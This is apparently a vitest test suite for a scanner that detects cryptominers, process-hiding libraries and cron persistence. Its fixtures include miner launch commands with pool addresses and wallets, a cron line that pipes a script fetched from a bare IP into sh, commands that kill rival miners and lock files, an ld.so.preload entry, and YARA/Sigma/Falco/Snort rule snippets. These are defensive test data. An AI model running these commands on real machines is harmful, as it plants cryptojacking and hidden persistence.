import { describe, expect, it } from 'vitest';
import { MINER_RULES } from '../../../src/scan/miners/judgements.ts';
import { XMRIG_WORDS, xmrigSettings } from '../../support/synthetic-miners.ts';
import { moneroAddress } from '../wallets.ts';
import { judged, minersIn, program } from './in-text.ts';

const WALLET = moneroAddress(18);
const COMMAND = `./w -o stratum+tcp://pool.supportxmr.com:3333 -u ${WALLET} -p x`;
const RULE_WORDS = 'rule x {\nstrings:\ncondition:\n- rule: y\noutput:\nlogsource:\ndetection:\n';

describe('miners in programs', () => {
  it('are found by identity, protocol and algorithm together, as one hit that lists its evidence', () => {
    const hits = minersIn(program('donate.v2.xmrig.com:3333', 'stratum+ssl://', 'rx/wow', '--donate-level'));
    expect(hits).toHaveLength(1);
    expect(hits[0]).toMatchObject({
      rule: 'miners.program',
      severity: 'critical',
      confidence: 'high',
      offset: 208,
    });
    expect(hits[0]?.args['evidence']).toEqual([
      'algorithm.rx-wow',
      'command.donate-level',
      'identity.xmrig',
      'identity.xmrig-donation',
      'protocol.stratum-ssl',
    ]);
  });

  it.each([
    ['what they say to a pool', ['stratum+tcp://', 'mining.subscribe']],
    ['a scheme and what they compute', ['stratum+tcp://', 'rx/wow']],
    ['their own words', ['no active pools, stop mining', 'huge-pages-jit', 'cn/half']],
    ['a name and what they need', ['xmrig', 'kawpow', 'huge-pages-jit']],
    ['the functions of a worm', ['main.redisBrute', 'main.masscan', 'main.runTask', 'ActiveC2CUrl']],
  ])('are found by %s', (_, words) => {
    expect(judged(program(...words))).toEqual(['program high']);
  });

  it('are found though they hold words of detection rules', () => {
    expect(judged(program(...XMRIG_WORDS, `\n${RULE_WORDS}`))).toEqual(['program high']);
  });

  it.each([
    ['a scheme and a pool', ['stratum+tcp://', 'nanopool.org']],
    [
      'names, schemes and pools, as a scanner lists them',
      ['xmrig', 'minerd', 'stratum+tcp://', 'f2pool.com'],
    ],
    ['pools that have nothing to do with each other', ['f2pool.com', 'nanopool.org', 'rx/0']],
  ])('are suspected by %s', (_, words) => {
    expect(judged(program(...words))).toEqual(['suspect low']);
  });

  it.each([
    ['one name', ['xmrig']],
    ['a pool', ['nanopool.org']],
    ['two names of one pool', ['c3pool.com', 'c3pool.org', 'rx/0']],
    ['a library of the algorithm', ['randomx', 'cryptonight']],
    ['a wallet', [`donate: address ${WALLET}`]],
    ['words that only hold a name', ['adminerd', 'cpuminers-guild', 'stratumfour']],
    ['some functions with everyday names', ['main.runTask', 'main.masscan']],
    ['a tool that lists processes', ['/proc/%s/stat', '/proc/self/fd/%d', 'readdir64']],
  ])('are not seen in %s alone', (_, words) => {
    expect(judged(program(...words))).toEqual([]);
  });

  it('are told by their name alone, and fail nothing', () => {
    for (const path of ['usr/bin/xmrig', 'tmp/kdevtmpfsi', 'srv/a.zip!/bin/minerd', 'usr/sbin/[kthreadd]'])
      expect(minersIn(program('x'), { path })).toMatchObject([
        { rule: 'miners.named', severity: 'info', confidence: 'low', args: { evidence: expect.any(Array) } },
      ]);
    expect(judged('just a text', 'usr/bin/xmrig')).toEqual([]);
    expect(judged(program('stratum+tcp://'), 'usr/bin/xmrig')).toEqual(['suspect low']);
    expect(judged(program('x'), 'usr/bin/minerd-exporter')).toEqual([]);
  });

  it('are told where they lie in a folder that is made to be overlooked', () => {
    for (const path of ['var/lib/.../x', 'opt/.. /x', 'opt/ ./x', 'dev/shm/x'])
      expect(judged(program('x'), path)).toEqual(['hidden low']);
    for (const path of ['root/.cache/x', 'tmp/x', 'opt/a b/x'])
      expect(judged(program('x'), path)).toEqual([]);
  });

  it('that hide processes are found by all that this takes', () => {
    const words = ['/proc/self/fd/%d', '/proc/%s/stat', 'Error in dlsym: %s', 'readdir64'];
    expect(judged(program(...words))).toEqual(['hider medium']);
  });
});

describe('miners in scripts and settings', () => {
  it.each([
    ['a pool with scheme and name', '#!/bin/sh\n./a -o stratum+tcp://pool.supportxmr.com:3333\n'],
    ['a pool and a wallet, without a first line', COMMAND],
    ['an address without a name, and a wallet', `./w -o 203.0.113.7:3333 -u ${WALLET} --algo=rx/0`],
    ['a pool with an option that only miners have', 'w --url pool.hashvault.pro:443 --donate-level=1'],
    ['variables', `#!/bin/sh\nPOOL=xmr.2miners.com:2222\nWALLET=${WALLET}\n`],
    ['settings', xmrigSettings()],
    [
      'settings of which only the shape and the pool are known',
      '{"rig-id":"a","donate-level":0,"pools":[{"url":"eu.nanopool.org:1"}]}',
    ],
    [
      'settings of a pool that nobody knows, with an account that is no wallet',
      '{"donate-level":0,"pools":[{"url":"203.0.113.7:3333","user":"a.b","pass":"x","rig-id":"c"}]}',
    ],
    [
      'settings of a pool without a name',
      '{"url":"stratum+tcp://203.0.113.7:3333","user":"a.b","pass":"x","algo":"scrypt"}',
    ],
    ['a list of words', `command: ["w", "-o", "203.0.113.5:3333", "-a", "rx/0", "-u", "${WALLET}"]`],
  ])('are found by %s', (_, text) => {
    expect(judged(text, 'opt/x')).toEqual(['configuration high']);
  });

  it('are found by a wallet with a pool, but only if its checksum is right', () => {
    const text = (wallet: string) => `{"url": "xmr.nanopool.org", "user": "${wallet}"}`;
    expect(judged(text(WALLET))).toEqual(['configuration high']);
    expect(judged(text(`${WALLET.slice(0, -1)}1`))).toEqual([]);
  });

  it('are found by a wallet on the line behind its key', () => {
    expect(judged(`url: eu.nanopool.org\nlogin:\n  ${WALLET}\n`, 'opt/x')).toEqual(['configuration high']);
  });

  it.each([
    ['a port', `#!/bin/sh\n./w :3333 xmrig cn/half\n`],
    ['a block list', 'minexmr.com\nsupportxmr.com\nnanopool.org\n'],
    ['a list of addresses', 'stratum+tcp://pool.minexmr.com:4444\nstratum+ssl://xmr.nanopool.org:14433\n'],
    ['a host name that only ends alike', 'stratum://example.test notnanopool.org'],
    ['a donation note', `Donate XMR to this wallet: ${WALLET}\n`],
    ['a mention', 'xmrig is a miner that speaks stratum'],
    [
      'settings of something else with a wallet',
      `{"user": "${WALLET}", "cpu": 1, "threads": 2, "url": "https://example.test"}`,
    ],
    [
      'a table of coins',
      '{"coin":"x","algo":"randomx","pools":[{"url":"https://example.test","nicehash":true}],"cpu":1,"cuda":2,"user":1}',
    ],
    [
      'a scanner',
      '#!/usr/bin/python3\nWORDS = ["stratum+tcp://", "--donate-level", "nanopool.org", "xmrig"]\n',
    ],
  ])('are not seen in %s', (_, text) => {
    expect(judged(text, 'srv/x')).toEqual([]);
  });

  it('with a place for a wallet are samples', () => {
    const text = xmrigSettings().replace(WALLET, 'YOUR_WALLET_ADDRESS');
    expect(judged(text, 'opt/config.json')).toEqual(['sample low']);
    const both = text.replace('"pools"', '"note": {"user": "account.worker"}, "pools"');
    expect(judged(both, 'opt/config.json')).toEqual(['configuration high']);
  });

  it('are no samples where a script will put in the wallet', () => {
    const text =
      '#!/bin/sh\nsed -i s/YOUR_WALLET_ADDRESS/$W/ c.json\n./w -o pool.hashvault.pro:443 --donate-level=1\n';
    expect(judged(text)).toEqual(['configuration high']);
  });
});

describe('words of detection rules', () => {
  it.each([
    ['YARA', `rule net {\nstrings:\n  $a = "${COMMAND}"\ncondition:\n  $a\n}`],
    [
      'Falco',
      `- rule: net\n  condition: proc.cmdline contains "w -o pool.hashvault.pro:443"\n  output: "stratum+tcp://x"\n`,
    ],
    [
      'Sigma',
      `logsource:\n  a: b\ndetection:\n  s: '-o pool.hashvault.pro:443 --donate-level=1'\ncondition: s\n`,
    ],
    [
      'Nuclei',
      `id: x\ninfo:\n  severity: info\nmatchers:\n  - 'w -o pool.hashvault.pro:443 --donate-level=1'\n`,
    ],
    ['Elastic', `[rule]\nquery = '''w -o pool.hashvault.pro:443 --donate-level=1'''\n`],
    ['Snort', 'alert tcp any any -> any any (msg:"-o pool.hashvault.pro:443 --donate-level=1"; sid:1;)\n'],
  ])('of %s make a mention, or a suspect where somebody is paid', (_, text) => {
    const [found = ''] = judged(text, 'srv/rules');
    expect(found).toBe(text.includes(WALLET) ? 'suspect low' : 'mention low');
  });

  it.each([
    ['a script', `#!/bin/sh\n${RULE_WORDS}${COMMAND}\n`, 'opt/x'],
    ['a job of cron', `${RULE_WORDS}* * * * * root ${COMMAND}\n`, 'etc/cron.d/x'],
    ['a unit', `[Service]\n${RULE_WORDS}ExecStart=${COMMAND}\n`, 'etc/systemd/system/x.service'],
    ['keys of settings', xmrigSettings({ 'condition:': 1, 'strings:': 1, 'logsource:': 1 }), 'opt/c.json'],
    ['a comment before settings', `/*\n${RULE_WORDS}*/\n${xmrigSettings()}`, 'opt/c.json'],
    ['a comment within settings', xmrigSettings().replace('{', `{\n/*\n${RULE_WORDS}*/`), 'opt/c.json'],
    [
      'settings behind blanks',
      `${' '.repeat(5000)}${xmrigSettings()}`.replace('{', `{\n/*\n${RULE_WORDS}*/`),
      'opt/c.json',
    ],
    ['settings named like a manual', xmrigSettings(), 'opt/readme.md'],
  ])('save no miner from being found: %s', (_, text, path) => {
    expect(judged(text, path)).toEqual(['configuration high']);
  });

  it('count only where a line begins with them', () => {
    const inline = '# rule x { strings: condition: - rule: logsource: detection:\n';
    expect(judged(`${inline}w --url pool.hashvault.pro:443 --donate-level=1\n`, 'opt/x')).toEqual([
      'configuration high',
    ]);
  });
});

describe('manuals', () => {
  const text = 'Start it with `xmrig -o pool.hashvault.pro:443 --donate-level=1`.\n';

  it('make a mention', () => {
    for (const path of ['srv/README.md', 'usr/share/doc/x/notes', 'usr/share/man/man1/x.1'])
      expect(judged(text, path)).toEqual(['mention low']);
    expect(judged(text, 'srv/notes')).toEqual(['configuration high']);
  });

  it('are suspects where they pay somebody whom nobody knows', () => {
    expect(judged(`${text} -u ${WALLET}\n`, 'srv/README.md')).toEqual(['suspect low']);
  });
});

describe('persistence', () => {
  const fetch = 'curl -fsSL http://198.51.100.7/x.sh | sh';

  it('is told of jobs that run what they fetch, and fails from a machine without a name', () => {
    expect(judged(`* * * * * root ${fetch}\n`, 'etc/cron.d/x')).toEqual(['persistence medium']);
    expect(judged('* * * * * root curl https://example.test/x | bash\n', 'etc/cron.d/x')).toEqual([
      'suspect low',
    ]);
    expect(judged('* * * * * root curl -o /x https://example.test/x\n', 'etc/cron.d/x')).toEqual([]);
  });

  it('is not told of scripts that only fetch and run, as build steps do', () => {
    expect(judged(`#!/bin/sh\n${fetch}\n`)).toEqual([]);
  });

  it('with other miners stopped, and something fetched, makes an installer', () => {
    const [kill, keep] = ['pkill -f xmrig', 'chattr +i /tmp/w'];
    expect(judged(`#!/bin/sh\n${kill}\n${fetch}\n${keep}\n`)).toEqual(['installer high']);
    expect(judged(`#!/bin/sh\n${kill}\n${fetch}\n`)).toEqual(['suspect low']);
    expect(judged(`#!/bin/sh\n${kill}\n${keep}\n`)).toEqual([]);
  });

  it('by a preloaded library is found where the library hides', () => {
    const path = 'etc/ld.so.preload';
    for (const library of [
      '/usr/local/lib/libprocesshider.so',
      '/tmp/x.so',
      '/usr/lib/.x.so',
      '/opt/.a/x.so',
    ])
      expect(judged(`# libraries\n/usr/lib/a.so:${library}\n`, path)).toEqual(['preload high']);
    expect(judged('/usr/lib/libjemalloc.so.2\n', path)).toEqual([]);
    expect(judged('# /tmp/x.so\n', path)).toEqual([]);
    expect(judged('/tmp/x.so\n', 'srv/etc/ld.so.preload')).toEqual([]);
  });
});

describe('the rules', () => {
  it('are named once each', () => {
    expect(new Set(MINER_RULES).size).toBe(MINER_RULES.length);
    for (const rule of MINER_RULES) expect(rule).toMatch(/^miners\.[a-z-]+$/);
  });
});
